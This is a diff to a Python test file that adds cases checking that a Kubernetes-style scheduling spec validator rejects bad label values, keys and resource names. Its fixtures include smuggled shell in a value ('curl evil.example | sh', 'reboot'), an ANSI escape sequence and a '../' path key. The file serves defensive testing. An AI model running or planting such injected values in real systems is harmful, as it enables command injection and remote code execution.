@@ -54,8 +54,29 @@ CASES: dict[str, Case] = {
         {"requirements": [term("In", ["a3", "a2,a1"])]},
         "values",
         "spec.requirements[0].values[1]",
-        "'a2,a1' contains ','",
-        "list values singly",
+        "'a2,a1' is not a label value",
+        "write a Kubernetes label value",
+    ),
+    "a value with a line of shell": (
+        {"requirements": [term("In", ["a3\ncurl evil.example | sh"])]},
+        "values",
+        "spec.requirements[0].values[0]",
+        r"'a3\ncurl evil.example | sh' is not a label value",
+        "write a Kubernetes label value",
+    ),
+    "a value that is longer than labels are": (
+        {"requirements": [term("NotIn", ["v" * 64])]},
+        "values",
+        "spec.requirements[0].values[0]",
+        "has 64 characters",
+        "at most 63",
+    ),
+    "a resource whose name is an escape sequence": (
+        {"resources": {"cpu": "1", "gpu\x1b[31m": "1"}},
+        "resource_name",
+        r"spec.resources['gpu\x1b[31m']",
+        r"'gpu\x1b[31m' is not a resource name",
+        "write a Kubernetes resource name",
     ),
     "a requirement on nothing": (
         {"requirements": [term(key="")]},
@@ -68,8 +89,8 @@ CASES: dict[str, Case] = {
         {"requirements": [term(key="a:3:;b")]},
         "key",
         "spec.requirements[0].key",
-        "contains ':'",
-        "no label of a machine can",
+        "'a:3:;b' is not a label key",
+        "write a Kubernetes label key",
     ),
     "a quantity that is none": (
         {"resources": {"cpu": "1", "memory": "lots"}},
@@ -141,6 +162,20 @@ CASES: dict[str, Case] = {
         "empty",
         "name the label",
     ),
+    "a spread over a line of shell": (
+        {"topologySpread": [spread(key="zone\nreboot")]},
+        "spread",
+        "spec.topologySpread[0].topologyKey",
+        r"'zone\nreboot' is not a label key",
+        "write a Kubernetes label key",
+    ),
+    "a gang held together by a path": (
+        {"coLocation": together({"app": "db"}, key="../rack")},
+        "co_location",
+        "spec.coLocation.topologyKey",
+        "'../rack' is not a label key",
+        "write a Kubernetes label key",
+    ),
     "a field of the wrong type": (
         {"requirements": [{"key": 7, "operator": "In"}]},
         "malformed",
@@ -173,6 +208,7 @@ def test_a_refusal_names_the_field_the_value_and_the_way_out(case: str) -> None:
     assert value in found.text
     assert way_out in found.text
     assert str(found) == f"{found.field}: {found.text}"
+    assert str(found).isprintable()
 
 
 @pytest.mark.parametrize("text", [b"", b"[]", b"{", b"\xff", b'{"priority": "\\ud800"}', b"null"])
